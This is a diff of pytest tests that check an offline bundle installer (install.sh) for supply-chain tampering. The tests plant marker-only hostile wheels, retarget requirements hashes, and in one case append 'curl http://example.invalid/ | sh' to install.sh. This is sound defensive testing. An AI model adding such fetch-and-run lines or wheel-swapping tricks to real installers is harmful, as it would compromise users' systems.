@@ -5,19 +5,22 @@ under ``unshare -n`` (a network namespace with no interface but a down loopback)
 install.sh tried to fetch would fail.
 """
 
+import hashlib
 import json
 import os
 import re
 import shutil
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
 from clihelp import REPO, run_cli
 from servers import require_tool
 
-from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME
+from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME, BundleManifest
+from amsrepomirror.bundle.readme import readme_text
 from amsrepomirror.bundle.sums import write_sums
 from amsrepomirror.bundle.tool import ToolSpec, install_script, tool_matches
 from amsrepomirror.testing.scmdouble import DEFAULT_VERSION, ScmDouble, make_repository
@@ -231,3 +234,166 @@ def test_linux_wheels_install_on_glibc_2_28_by_default(tool_bundle):
     assert any(name.startswith("cryptography-") for name in wheels)
     binary = {name: name[:-len(".whl")].split("-")[-1].split(".") for name in wheels if not name.endswith("-any.whl")}
     assert binary and {name: tags for name, tags in binary.items() if not any(map(runs_on_glibc_2_28, tags))} == {}
+
+
+# --- install.sh uses exactly the listed wheels: an added or changed one never runs -------------------
+
+def hostile_pip(path: Path, marker: Path) -> None:
+    """A "pip" wheel whose pip/__main__.py only leaves ``marker``: if it runs, added code ran."""
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("pip/__init__.py", "")
+        z.writestr("pip/__main__.py", f"open({str(marker)!r}, 'w').write('pip ran')\n")
+
+
+def hostile_amsrepomirror(path: Path, marker: Path) -> None:
+    """An installable amsrepomirror 99.0 (higher than any real one) whose import leaves ``marker``."""
+    dist = "amsrepomirror-99.0.dist-info"
+    files = {
+        "amsrepomirror/__init__.py": f"open({str(marker)!r}, 'w').write('imported')\ndef run():\n    return 0\n",
+        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: amsrepomirror\nVersion: 99.0\n",
+        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        f"{dist}/entry_points.txt": "[console_scripts]\namsrepomirror = amsrepomirror:run\n",
+    }
+    files[f"{dist}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{dist}/RECORD"])
+    with zipfile.ZipFile(path, "w") as z:
+        for name, text in files.items():
+            z.writestr(name, text)
+
+
+def _add_newer_amsrepomirror(wheels: Path, marker: Path) -> str:
+    hostile_amsrepomirror(wheels / "amsrepomirror-99.0-py3-none-any.whl", marker)
+    return "tool/wheels/amsrepomirror-99.0-py3-none-any.whl"
+
+
+def _add_second_pip(wheels: Path, marker: Path) -> str:
+    hostile_pip(wheels / "pip-1.0-py3-none-any.whl", marker)  # sorts before the real one
+    return "tool/wheels/pip-1.0-py3-none-any.whl"
+
+
+def _replace_listed_pip(wheels: Path, marker: Path) -> str:
+    listed = next(wheels.glob("pip-*.whl"))
+    hostile_pip(listed, marker)
+    return f"tool/wheels/{listed.name}"
+
+
+def _requirements_name_an_added_wheel(wheels: Path, marker: Path) -> str:
+    """The forger also edits the requirements files (and could fix SHA256SUMS): they no longer match manifest.json."""
+    added = _add_newer_amsrepomirror(wheels, marker)
+    digest = hashlib.sha256((wheels.parent.parent / added).read_bytes()).hexdigest()
+    for requirements in wheels.parent.glob("requirements-*.txt"):
+        text = re.sub(r"wheels/amsrepomirror-[^ ]+ --hash=sha256:[0-9a-f]+", f"wheels/{Path(added).name} --hash=sha256:{digest}",
+                      requirements.read_text())
+        requirements.write_text(text)
+    return f"tool/requirements-{OTHER_PYTHON}.txt"
+
+
+HOSTILE_WHEELS = {  # id: (what is done to tool/wheels, whether install.sh itself refuses before any pip runs)
+    "newer-amsrepomirror": (_add_newer_amsrepomirror, False),
+    "second-pip": (_add_second_pip, False),
+    "pip-replaced": (_replace_listed_pip, True),
+    "requirements-retargeted": (_requirements_name_an_added_wheel, True),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_WHEELS))
+def test_install_sh_never_runs_a_wheel_the_manifest_does_not_list(tool_bundle, tmp_path, case):
+    damage, refused_before_pip = HOSTILE_WHEELS[case]
+    bundle = copied(tool_bundle, tmp_path / "arrived")
+    marker = tmp_path / "added-code-ran"
+    named = damage(bundle / "tool" / "wheels", marker)
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
+    venv = tmp_path / "venv"
+    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)],
+                     env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin", PYTHON=f"python{OTHER_PYTHON}"), cwd=tmp_path)
+    assert not marker.exists(), result.stdout + result.stderr
+    assert result.returncode == 4, result.stdout + result.stderr
+    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
+    assert len(errors) == 1 and named in errors[0], result.stderr
+    if refused_before_pip:
+        assert errors[0].startswith("error: install.sh: ") and errors[0].endswith("nothing was installed")
+        assert not venv.exists()
+    else:  # installed from the listed wheels only; then verify names the added file
+        assert "not in manifest.json" in errors[0]
+        installed = subprocess.run([str(venv / "bin" / "python"), "-c", "from importlib import metadata; "
+                                    "print(metadata.version('amsrepomirror'), metadata.version('pip'))"],
+                                   capture_output=True, text=True, cwd=tmp_path)
+        listed = json.loads((bundle / MANIFEST_NAME).read_text())["tool"]
+        wheels = {Path(t["path"]).name.split("-")[0]: Path(t["path"]).name.split("-")[1] for t in listed
+                  if Path(t["path"]).name.startswith(("amsrepomirror-", "pip-"))}
+        assert installed.stdout.split() == [wheels["amsrepomirror"], wheels["pip"]]
+
+
+def test_requirements_files_name_every_listed_wheel_with_its_sha256(tool_bundle):
+    listed = {t["path"]: t["sha256"] for t in json.loads((tool_bundle / MANIFEST_NAME).read_text())["tool"]}
+    named = {}
+    for python in (f"{sys.version_info[0]}.{sys.version_info[1]}", OTHER_PYTHON):
+        requirements = f"tool/requirements-{python}.txt"
+        assert requirements in listed
+        lines = [line for line in (tool_bundle / requirements).read_text().splitlines() if not line.startswith("#")]
+        pairs = dict(re.fullmatch(r"(wheels/\S+\.whl) --hash=sha256:([0-9a-f]{64})", line).groups() for line in lines)
+        assert len([w for w in pairs if w.startswith("wheels/pip-")]) == 1
+        named.update({f"tool/{wheel}": digest for wheel, digest in pairs.items()})
+    wheels = {path: digest for path, digest in listed.items() if path.endswith(".whl")}
+    assert named == wheels  # every wheel is some Python's, each with the sha256 manifest.json lists
+
+
+def test_install_sh_checks_pips_wheel_before_it_runs(tmp_path):
+    """With no download: a tool/ folder whose requirements file and manifest.json agree, but whose pip wheel
+    is other bytes than they list. install.sh's check refuses it before it runs (pip's own check would
+    come too late: it runs inside that wheel)."""
+    bundle = tmp_path / "bundle"
+    wheels = bundle / "tool" / "wheels"
+    wheels.mkdir(parents=True)
+    marker = tmp_path / "added-code-ran"
+    hostile_pip(wheels / "pip-25.0-py3-none-any.whl", marker)
+    genuine = hashlib.sha256(b"the pip wheel that was signed").hexdigest()
+    requirements = bundle / "tool" / f"requirements-{OTHER_PYTHON}.txt"
+    requirements.write_text(f"wheels/pip-25.0-py3-none-any.whl --hash=sha256:{genuine}\n")
+    (bundle / "tool" / "install.sh").write_text(install_script(ToolSpec(pythons=[OTHER_PYTHON])))
+    tool = {f"tool/requirements-{OTHER_PYTHON}.txt": hashlib.sha256(requirements.read_bytes()).hexdigest(),
+            "tool/wheels/pip-25.0-py3-none-any.whl": genuine}
+    (bundle / MANIFEST_NAME).write_text(json.dumps({"tool": [{"path": p, "sha256": d} for p, d in tool.items()]}))
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
+    result = subprocess.run(["sh", str(bundle / "tool" / "install.sh"), str(tmp_path / "venv")], capture_output=True,
+                            text=True, cwd=tmp_path, env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin"), timeout=120)
+    assert not marker.exists()
+    assert result.returncode == 4, result.stderr
+    assert result.stderr.splitlines() == ["error: install.sh: tool/wheels/pip-25.0-py3-none-any.whl does not match its "
+                                          "sha256 in manifest.json; nothing was installed"]
+    assert not (tmp_path / "venv").exists()
+
+
+def test_readmes_signature_step_names_a_tool_file_the_signed_manifest_does_not_list(tool_bundle, tmp_path):
+    """By hand: SHA256SUMS is not signed, so a forger who changes tool/install.sh fixes its line there too;
+    the signed README's step 0 must then name it."""
+    bundle = copied(tool_bundle, tmp_path / "arrived")
+    script = bundle / "tool" / "install.sh"
+    script.write_text(script.read_text() + "curl http://example.invalid/ | sh\n")
+    names = [line.split("  ", 1)[1] for line in (bundle / SUMS_NAME).read_text().splitlines()]
+    write_sums(bundle, names)
+    readme = readme_text(BundleManifest.read(bundle / MANIFEST_NAME), signed=True)
+    command = next(line.strip() for line in readme.splitlines() if "NOT SIGNED" in line)
+    found = subprocess.run(["sh", "-c", command], cwd=bundle, capture_output=True, text=True, timeout=60)
+    assert found.stdout == "tool/install.sh: NOT SIGNED\n", found.stderr
+
+
+def test_install_sh_run_in_the_bundle_folder_imports_nothing_from_it(tool_bundle, tmp_path):
+    """README.txt has the admin work in the bundle folder; a venv.py added there must not stand in for
+    Python's own venv module (python -m looks in the current folder first)."""
+    bundle = copied(tool_bundle, tmp_path / "arrived")
+    marker = tmp_path / "added-code-ran"
+    (bundle / "venv.py").write_text(f"open({str(marker)!r}, 'w').write('venv.py ran')\n")
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
+    venv = tmp_path / "venv"
+    result = offline(["sh", "tool/install.sh", str(venv)],
+                     env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin", PYTHON=f"python{OTHER_PYTHON}"), cwd=bundle)
+    assert not marker.exists(), result.stdout + result.stderr
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "ignored 1 file(s) that manifest.json does not list (never read): venv.py" in result.stderr
+    assert (venv / "bin" / "amsrepomirror").exists()
